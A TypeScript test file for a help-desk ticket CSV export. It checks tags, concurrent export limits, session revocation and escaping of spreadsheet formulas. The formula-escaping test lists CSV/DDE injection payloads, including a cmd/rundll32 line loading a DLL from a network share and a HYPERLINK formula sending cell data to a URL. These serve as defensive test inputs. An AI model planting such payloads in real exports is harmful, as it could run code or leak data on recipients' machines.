import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'
import { db, sql as pool } from '@/db/client'
import { withCorpus } from '@/e2e/threats/strings'
import { openSession } from '@/lib/auth/sessions'
import { sessionId } from '@/lib/auth/token'
import { TooMany } from '@/lib/errors'
import { changePerson } from '@/lib/people/change-person'
import { customer, supervisor } from '@/lib/testing/people'
import { inTransaction } from '@/lib/transaction'
import { type Customer, system } from '@/lib/viewer'
import { exportQueue } from './export-queue'
import { file } from './file'
import { ticketByRefid } from './lists'
import { atOnce, queueAsCsv } from './queue-export'
import { readQueueFilter } from './queue-filter'
import { resolve } from './resolve'
import { tag } from './tag'

async function signedIn() {
  const sam = await supervisor()
  const secret = await inTransaction((tx) => openSession(tx, sam, { address: 'here', userAgent: null }))
  return { sam, session: sessionId(secret) }
}

const filed = async (carla: Customer, subject: string) => {
  const { refid } = await file(carla, carla, { subject, description: 'Help', channel: 'portal' })
  return ticketByRefid(refid)
}

/** So many tickets without a story. */
const many = (carla: Customer, count: number) =>
  db.execute(sql`
    insert into tickets (refid, requester_id, subject, status, priority, channel)
    select 'SUP-' || lpad(n::text, 8, '0'), ${carla.id}, 'Request ' || n, 'open', 'low', 'email'
    from generate_series(1, ${count}::integer) n`)

test('an export tells the tags of each ticket by their names, in their order', async () => {
  const [sam, carla] = [await supervisor(), await customer()]
  await tag(sam, await filed(carla, 'Tagged'), { add: ['vip', 'beta', 'Apple'] })
  await filed(carla, 'Bare')
  let text = ''
  for await (const piece of queueAsCsv(sam, readQueueFilter({}), new Date())) text += piece
  const [head = '', tagged, bare] = text.split('\r\n')
  expect(head.split(',')[11]).toBe('"Tags"')
  expect(tagged).toContain('"Tagged","open","medium","portal"')
  expect(tagged).toContain('"apple, beta, vip"')
  expect(bare).toMatch(/"Bare","open","medium","portal",,,,"Carla Customer","[^"]+",,,"/)
})

/** The cells of a table as RFC 4180 writes it: each is in quotes, or has none. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(([, quoted, bare = '']) =>
    quoted === undefined ? bare : quoted.replaceAll('""', '"'),
  )

const formulas = [
  '=1+1',
  '+1',
  '-1+2',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3.dll,0'!_xlbgnm.A1",
  '=HYPERLINK("http://a.test?"&A1,"x")',
  '＝1',
  '＋1',
  '－1',
  '＠A',
  'a","=1+1',
  '"=1+1',
]

test('no subject and no name becomes a formula of the table, and all of them can be read', async () => {
  const sam = await supervisor()
  const all = [...new Set(withCorpus(formulas, 'injection/csv_formula.json', 20))]
  for (const formula of all) await filed(await customer(formula), formula)
  let text = ''
  for await (const piece of queueAsCsv(sam, readQueueFilter({}), new Date())) text += piece
  const cells = cellsOf(text)
  for (const formula of formulas) {
    const asText = /^[=+\-@＝＋－＠]/.test(formula) ? `'${formula}` : formula
    // As the subject, and as the name of who filed it.
    expect(
      cells.filter((cell) => cell === asText),
      formula,
    ).toHaveLength(2)
  }
  expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
})

test('exports that nobody reads on hold no connection; each has every ticket once, as it is when it is read', async () => {
  const [sam, carla] = [await supervisor(), await customer()]
  await many(await customer('Otto Other'), atOnce + 1)
  const last = await filed(carla, 'The last one')
  const filter = readQueueFilter({ status: 'open' })
  const all = Array.from({ length: pool.options.max }, () => queueAsCsv(sam, filter, new Date()))
  for (const one of all) {
    await one.next()
    await one.next()
  }
  await resolve(sam, last)
  await filed(carla, 'Came too late')

  let text = ''
  for await (const piece of all[0] ?? []) text += piece
  expect(text).toMatch(/"The last one","resolved"/)
  expect(text).not.toContain('Came too late')
  const subjects = [...text.matchAll(/"(Request \d+)"/g)].map(([, subject]) => subject)
  expect(subjects.at(-1)).toBe(`Request ${atOnce + 1}`)
  expect(new Set(subjects).size).toBe(subjects.length)
  await Promise.all(all.map((one) => one.return(undefined)))
})

test('whoever is sent away in the middle of an export gets no more of it', async () => {
  const { sam, session } = await signedIn()
  await filed(await customer(), 'Help')
  const reader = (await exportQueue(sam, session, readQueueFilter({}), new Date())).getReader()
  expect(new TextDecoder().decode((await reader.read()).value)).toContain('Reference')
  // A piece may have been on its way.
  await changePerson(system, sam.email, { active: false })
  await reader.read().catch(() => {})
  await expect(reader.read()).rejects.toMatchObject({ name: 'AbortError' })
})

test('three exports are made at a time, and one that is left makes room', async () => {
  const { sam, session } = await signedIn()
  const begin = () => exportQueue(sam, session, readQueueFilter({}), new Date())
  const three = [await begin(), await begin(), await begin()]
  await expect(begin()).rejects.toBeInstanceOf(TooMany)
  await three[0]?.cancel()
  const another = await begin()
  await expect(begin()).rejects.toThrow(/^Three exports/)
  for (const one of [another, ...three.slice(1)]) await one.cancel()
})
